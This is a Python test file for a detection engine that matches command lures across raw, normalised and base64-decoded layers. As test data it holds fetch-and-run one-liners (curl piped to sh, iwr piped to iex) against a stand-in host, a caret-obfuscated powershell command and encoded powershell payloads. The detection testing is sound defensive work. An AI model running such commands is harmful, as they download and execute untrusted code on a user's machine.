"""A short text's layers read lazily (rules.Reported): what hits would find, with Hyperscan's
reports and the literal guard's candidates each confirmed by RE2 only when a rule asks. A layer
so read says of every pattern what hits would have said (beyond ASCII, without the database,
of the bytes it was given), the engine finds what it finds with every layer's hits made whole,
a lure that only a decoded or normalised layer shows is still caught there, and a text just
past the lazy reading's limits (TIMED_CHUNK bytes, a letter only RE2 folds to ASCII) gets hits
as before."""

from __future__ import annotations

import base64
import random
from collections.abc import Iterator

import pytest

from app.detection import Engine
from app.detection import rules as rules_module
from app.detection.rules import CompiledRules, Reported
from tests.app.detection import test_hsfilter
from tests.app.detection.test_hsfilter import case_texts

# the shipped rules, with the database and without it (test_hsfilter's fixtures)
rules, database, both = test_hsfilter.rules, test_hsfilter.database, test_hsfilter.both


def said(fast: CompiledRules, layer: Reported) -> frozenset[int]:
    """Every pattern the lazy reading says occurs, each asked about."""
    return frozenset(i for i in range(len(fast.patterns())) if fast.occurs(i, layer))


def test_a_layer_read_lazily_says_of_each_pattern_what_hits_says(
    both: tuple[CompiledRules, CompiledRules],
) -> None:
    texts = case_texts()
    rng = random.Random(15)
    joined = [rng.choice([" | ", " é ", "\n"]).join(rng.sample(texts, 3)) for _ in range(300)]
    for rules in both:  # with the database, and without it (the guard's candidates alone)
        checked = beyond_ascii = 0
        for text in [*texts[::4], *joined]:
            layer = rules.reported(text)
            if layer is None:
                continue
            checked += 1
            beyond_ascii += not text.isascii()
            expected, finished = rules.hits(text)
            assert finished
            assert layer.reported >= expected, text[:200]  # all that occurs may occur
            assert {i for i in layer.reported if rules.occurs(i, layer)} == expected, text[:200]
        assert checked > 2500 and beyond_ascii > 300


def test_only_a_text_hits_reads_in_one_pass_without_the_clock_is_read_lazily(
    both: tuple[CompiledRules, CompiledRules],
) -> None:
    fast, exact = both
    text = "iwr https://a.example.test/x | iex # "
    limit = rules_module.TIMED_CHUNK
    just_under = text + "x" * (limit - 1 - len(text))
    layer = fast.reported(just_under)
    assert layer is not None and said(fast, layer) == exact.hits(just_under)[0]
    assert fast.reported(just_under + "x") is None  # hits looks at the clock from there
    given = b"curl -s https://a.example.test/x | sh"  # the raw text's own bytes, when given
    layer = fast.reported(text, given)
    assert layer is not None and said(fast, layer) == exact.hits(text, None, given)[0]
    for other in (text + "é", text + "\u4e2d"):  # beyond ASCII: the RE2 sets' share outright
        layer = fast.reported(other)
        assert layer is not None and said(fast, layer) == exact.hits(other)[0]
    # a letter RE2 folds to ASCII: hits reads it without the database, so not lazily
    assert fast.reported(text + "\u017f") is None
    assert exact.reported(text + "\u017f") is not None  # (no database: nothing to misread)


@pytest.fixture(scope="module")
def engine(both: tuple[CompiledRules, CompiledRules]) -> Iterator[Engine]:
    engine = Engine(strict=True)
    engine.rules = both[0]
    yield engine


def reading(engine: Engine, text: str) -> list[tuple[str, str, str]]:
    verdict = engine.analyze(text)
    return [(str(verdict.level), f.rule_id, f.layer) for f in verdict.findings]


def test_the_engine_finds_what_it_finds_with_every_layer_read_whole(engine: Engine) -> None:
    texts = case_texts()[::6]
    lazy = [reading(engine, t) for t in texts]
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(CompiledRules, "reported", lambda self, text, data=None: None)
        whole = [reading(engine, t) for t in texts]
    assert lazy == whole
    layered = sum(any(layer != "raw" for _, _, layer in found) for found in lazy)
    assert layered > 100  # findings on later layers were compared, not raw ones only


def encoded(command: str) -> str:
    return "powershell -enc " + base64.b64encode(command.encode("utf-16-le")).decode()


def test_a_lure_only_a_later_layer_shows_is_caught_there(engine: Engine) -> None:
    rules_of = {rule for _, rule, _ in reading(engine, "c^m^d /c p^o^w^e^r^s^h^e^l^l -c whoami")}
    assert "PG-WIN-HIDDEN-COMMAND-WORD" in rules_of  # a hidden rule, on the normalised layer
    share = encoded("cmd /c type \\\\files.example.test\\s\\p.txt | cmd")
    assert ("PG-WIN-SHARE-TEXT-RUN", "base64") in {
        (r, layer) for _, r, layer in reading(engine, share)
    }
    # the rule's `none` pattern is asked about on that layer: a company's own share is not it
    own = encoded("cmd /c type \\\\files.example.corp\\s\\p.txt | cmd")
    assert "PG-WIN-SHARE-TEXT-RUN" not in {r for _, r, _ in reading(engine, own)}
